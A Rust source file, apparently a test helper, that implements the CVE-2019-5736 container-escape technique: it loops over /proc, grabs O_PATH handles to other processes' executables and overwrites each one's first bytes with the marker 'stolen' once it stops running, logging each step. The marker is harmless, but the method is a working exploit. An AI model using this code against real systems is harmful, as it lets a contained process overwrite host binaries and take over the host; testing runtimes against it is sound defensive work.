//! Takes hold of the program of every other process that it can see, and overwrites it as soon as nothing runs it (CVE-2019-5736).

use std::collections::BTreeMap;
use std::fs::{self, File, OpenOptions};
use std::io::Write as _;
use std::os::fd::AsRawFd as _;
use std::os::unix::fs::{FileExt as _, MetadataExt as _, OpenOptionsExt as _};

/// What it leaves at the start of a file.
const MARK: &[u8] = b"stolen";

/// `steal PATH…`: for ever, but for the programs at these paths and its own. A line for each handle (`took`), and each file overwritten (`overwrote`).
pub(crate) fn steal(spared: &[&str]) -> ! {
    let identity = |meta: &fs::Metadata| (meta.dev(), meta.ino());
    let mut held: BTreeMap<(u64, u64), Option<File>> = spared
        .iter()
        .chain(&["/proc/self/exe"])
        .filter_map(|path| Some((identity(&fs::metadata(path).ok()?), None)))
        .collect();
    let own = std::process::id().to_string();
    say("ready", "");
    loop {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let name = entry.file_name();
            let is_other = name.to_string_lossy().parse::<u32>().is_ok() && *name != *own;
            // A handle that asks for no right is enough: it is opened again below.
            let mut options = OpenOptions::new();
            options.read(true).custom_flags(libc::O_PATH);
            if is_other
                && let Ok(file) = options.open(entry.path().join("exe"))
                && let Ok(meta) = file.metadata()
            {
                held.entry(identity(&meta)).or_insert_with(|| {
                    say(
                        "took",
                        &format!("{}:{} {}", meta.dev(), meta.ino(), shown(&file)),
                    );
                    Some(file)
                });
            }
        }
        for slot in held.values_mut() {
            let written = slot.as_ref().and_then(|file| {
                let path = format!("/proc/self/fd/{}", file.as_raw_fd());
                let open = OpenOptions::new().write(true).open(path).ok()?;
                open.write_all_at(MARK, 0).ok()?;
                Some(shown(file))
            });
            if let Some(path) = written {
                say("overwrote", &path);
                *slot = None;
            }
        }
    }
}

fn shown(file: &File) -> String {
    fs::read_link(format!("/proc/self/fd/{}", file.as_raw_fd()))
        .map_or_else(|_| "?".to_owned(), |path| path.display().to_string())
}

/// Nobody may read it, and that is no reason to stop.
fn say(what: &str, path: &str) {
    let mut out = std::io::stdout();
    drop(writeln!(out, "{what} {path}").and_then(|()| out.flush()));
}
